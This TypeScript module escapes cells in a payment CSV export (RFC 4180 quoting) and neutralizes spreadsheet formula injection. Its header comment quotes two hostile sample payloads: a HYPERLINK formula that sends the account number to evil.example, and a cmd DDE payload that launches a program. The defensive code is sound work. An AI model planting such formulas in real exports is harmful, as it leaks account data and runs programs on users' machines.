// CSV files we write (the positive pay CSV; any later export comes here too): RFC 4180 quoting,
// and no cell a spreadsheet would run as a formula (OWASP, "CSV Injection"; CWE-1236).
//
// A spreadsheet opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in
// some programs, a tab, a carriage return or a NUL before one of those): `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
// in a payee name becomes a link that sends column A — the full account number — away, and
// `+cmd|' /C calc'!A0` asked older Excel to start a program. Such a cell is written with a single
// quote in front, inside double quotes (`"'=HYPERLINK(..."`), as OWASP's guidance says: the
// spreadsheet shows the text, apostrophe included, and runs nothing. The full-width forms of the
// four signs are treated the same (some spreadsheets fold them to ASCII when reading).
//
// Every cell goes through here, so no column can be forgotten. Columns we fill ourselves with
// digits, dates and unsigned amounts never start with one of these characters and come out as
// before; a column that could (a name) is neutralized whatever its value.

/** Characters that make a spreadsheet read a cell that starts with one as a formula. */
const FORMULA_START = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;

/** Characters that make a field need quotes: RFC 4180's comma, quote and line breaks, plus the
 * semicolon and tab that spreadsheets in some locales split cells on. */
const NEEDS_QUOTES = /[",;\t\r\n]/;

/** Whether a spreadsheet would evaluate this cell's text as a formula. */
export function startsLikeFormula(value: string): boolean {
  return FORMULA_START.test(value);
}

/** One field of a CSV line: neutralized when it starts like a formula, quoted when it must be. */
export function csvCell(value: string): string {
  if (startsLikeFormula(value)) return `"'${value.replaceAll('"', '""')}"`;
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** One line of a CSV file, without its line end. */
export function csvLine(values: readonly string[]): string {
  return values.map(csvCell).join(',');
}
